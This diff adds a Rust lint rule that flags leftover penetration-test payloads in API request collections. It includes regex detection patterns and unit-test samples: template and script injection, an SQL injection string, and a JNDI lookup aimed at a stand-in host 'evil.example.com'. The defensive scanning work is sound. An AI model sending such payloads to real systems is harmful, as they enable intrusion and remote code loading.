@@ -0,0 +1,222 @@
+use crate::context::LintContext;
+use crate::{LintConfig, LintIssue};
+use crate::model::TypedItem;
+use crate::rules::{self, Category, ItemVisitor, Rule, RuleInput};
+use crate::utils::{self, ItemContext};
+use crate::i18n::Render;
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+use serde_json::Value;
+use std::sync::LazyLock;
+
+/// Payloads d'attaque connus : (description, pattern)
+const PAYLOAD_PATTERNS: &[(&str, &str)] = &[
+    ("template injection", r"\{\{\s*\d+\s*\*\s*\d+\s*\}\}|\$\{\s*\d+\s*\*\s*\d+\s*\}|<%=?\s*\d+\s*\*\s*\d+\s*%>|#\{\s*\d+\s*\*\s*\d+\s*\}"),
+    ("JNDI lookup", r"(?i)\$\{\s*jndi\s*:"),
+    ("script injection", r"(?i)<script[\s>]|javascript:\s*alert|\bon(?:error|load)\s*=\s*alert"),
+    ("SQL injection", r"(?i)'\s*or\s*'?1'?\s*=\s*'?1|\bunion\s+(?:all\s+)?select\b|;\s*drop\s+table\b"),
+    ("path traversal", r"(?:\.\./){3,}|(?i)%2e%2e%2f"),
+];
+
+static PAYLOADS: LazyLock<Vec<(&str, Regex)>> = LazyLock::new(|| {
+    PAYLOAD_PATTERNS
+        .iter()
+        .map(|(kind, pattern)| (*kind, utils::build_regex(pattern).unwrap()))
+        .collect()
+});
+
+/// Configuration de la règle test-payload-residue
+#[derive(Serialize, Deserialize, Debug, Clone, Default)]
+#[serde(default)]
+pub struct TestPayloadResidueConfig {
+    /// Folders de tests de sécurité volontaires, par chemin de noms
+    /// (ex: "Security Tests", "QA/Pentest*"), jokers `*` acceptés
+    pub allowed_paths: Vec<String>,
+}
+
+/// Règle : test-payload-residue
+///
+/// Détecte les payloads de tests d'intrusion oubliés dans les collections partagées
+/// (`{{7*7}}`, `${jndi:...}`, `<script>`, `' OR '1'='1`, `../../../`...) dans l'URL,
+/// les headers et le body des requêtes.
+///
+/// Les folders de tests de sécurité volontaires peuvent être exclus via `allowed_paths`.
+///
+/// Sévérité : WARNING (-8%)
+pub fn check(collection: &Value) -> Vec<LintIssue> {
+    check_with_config(collection, &TestPayloadResidueConfig::default())
+}
+
+/// Version avec configuration personnalisable
+pub fn check_with_config(collection: &Value, config: &TestPayloadResidueConfig) -> Vec<LintIssue> {
+    rules::visit(collection, &LintContext::new(collection), &mut ResidueVisitor::new(config))
+}
+
+struct ResidueVisitor {
+    allowed: Vec<Regex>,
+    /// Par folder parent : chemin de noms ("QA/Pentest") et exclusion via `allowed_paths`
+    folders: Vec<(String, bool)>,
+}
+
+impl ResidueVisitor {
+    fn new(config: &TestPayloadResidueConfig) -> Self {
+        ResidueVisitor {
+            allowed: config.allowed_paths.iter().filter_map(|path| utils::wildcard_regex(path)).collect(),
+            folders: Vec::new(),
+        }
+    }
+}
+
+impl ItemVisitor for ResidueVisitor {
+    fn visit(&mut self, item: &ItemContext, typed: &TypedItem, _ctx: &LintContext, issues: &mut Vec<LintIssue>) {
+        self.folders.truncate(item.depth);
+        let (parent_names, excluded) = self.folders.last().map_or(("", false), |(names, excluded)| (names.as_str(), *excluded));
+        // Contenu d'un folder de tests de sécurité autorisé
+        if excluded {
+            return;
+        }
+
+        // Si c'est une requête
+        if let Some(request) = &typed.item.request {
+            // Headers et body sont analysés sous leur forme JSON brute, quel que soit leur mode
+            let raw = &item.item["request"];
+            let locations = [
+                ("url", request.url.raw().to_string()),
+                ("header", serde_json::to_string(&raw["header"]).unwrap_or_default()),
+                ("body", serde_json::to_string(&raw["body"]).unwrap_or_default()),
+            ];
+
+            let mut found: Vec<String> = Vec::new();
+            for (location, content) in &locations {
+                for (kind, regex) in PAYLOADS.iter() {
+                    if regex.is_match(content) {
+                        found.push(format!("{} in {}", kind, location));
+                    }
+                }
+            }
+
+            if !found.is_empty() {
+                issues.push(LintIssue::builder("test-payload-residue")
+                    .message_id("test-payload-residue.found")
+                    .param("request", item.name.as_str())
+                    .param("payloads", found.join(", "))
+                    .path(format!("{}/request", item.path))
+                    .render());
+            }
+        }
+
+        if item.has_children() {
+            let folder_names = if parent_names.is_empty() {
+                item.name.clone()
+            } else {
+                format!("{}/{}", parent_names, item.name)
+            };
+            let excluded = self.allowed.iter().any(|re| re.is_match(&folder_names));
+            self.folders.push((folder_names, excluded));
+        }
+    }
+}
+
+/// Déclaration de la règle dans le registre
+pub struct TestPayloadResidue;
+
+impl Rule for TestPayloadResidue {
+    fn id(&self) -> &'static str {
+        "test-payload-residue"
+    }
+
+    fn category(&self) -> Category {
+        Category::Security
+    }
+
+    fn severity(&self) -> &'static str {
+        "warning"
+    }
+
+    fn description(&self) -> &'static str {
+        "No pentest payloads left in requests"
+    }
+
+    fn default_options(&self) -> Option<Value> {
+        serde_json::to_value(TestPayloadResidueConfig::default()).ok()
+    }
+
+    fn inputs(&self) -> &'static [RuleInput] {
+        &[RuleInput::RequestContent]
+    }
+
+    fn visitor<'a>(&'a self, _ctx: &'a LintContext, config: &'a LintConfig) -> Option<Box<dyn ItemVisitor + 'a>> {
+        Some(Box::new(ResidueVisitor::new(&config.options_for(self.id()))))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    #[test]
+    fn test_payloads_detected() {
+        let collection = json!({
+            "info": { "name": "Test" },
+            "item": [
+                {
+                    "name": "POST Comment",
+                    "request": {
+                        "method": "POST",
+                        "url": "{{base_url}}/comments?q={{7*7}}",
+                        "body": { "mode": "raw", "raw": "{\"text\": \"<script>alert(1)</script>\"}" }
+                    }
+                },
+                {
+                    "name": "GET Users",
+                    "request": {
+                        "method": "GET",
+                        "url": "{{base_url}}/users",
+                        "header": [{ "key": "User-Agent", "value": "${jndi:ldap://evil.example.com/a}" }]
+                    }
+                }
+            ]
+        });
+
+        let issues = check(&collection);
+        assert_eq!(issues.len(), 2);
+        assert!(issues[0].message.contains("template injection in url"));
+        assert!(issues[0].message.contains("script injection in body"));
+        assert!(issues[1].message.contains("JNDI lookup in header"));
+    }
+
+    #[test]
+    fn test_postman_variables_not_flagged() {
+        let collection = json!({
+            "info": { "name": "Test" },
+            "item": [{
+                "name": "GET User",
+                "request": { "method": "GET", "url": "{{base_url}}/users/{{userId}}?page=1" }
+            }]
+        });
+
+        assert_eq!(check(&collection).len(), 0);
+    }
+
+    #[test]
+    fn test_allowed_security_folder() {
+        let collection = json!({
+            "info": { "name": "Test" },
+            "item": [{
+                "name": "QA",
+                "item": [{
+                    "name": "Pentest - Injection",
+                    "item": [{
+                        "name": "GET Search",
+                        "request": { "method": "GET", "url": "{{base_url}}/search?q=' OR '1'='1" }
+                    }]
+                }]
+            }]
+        });
+
+        assert_eq!(check(&collection).len(), 1);
+        let config = TestPayloadResidueConfig { allowed_paths: vec!["QA/Pentest*".to_string()] };
+        assert_eq!(check_with_config(&collection, &config).len(), 0);
+    }
+}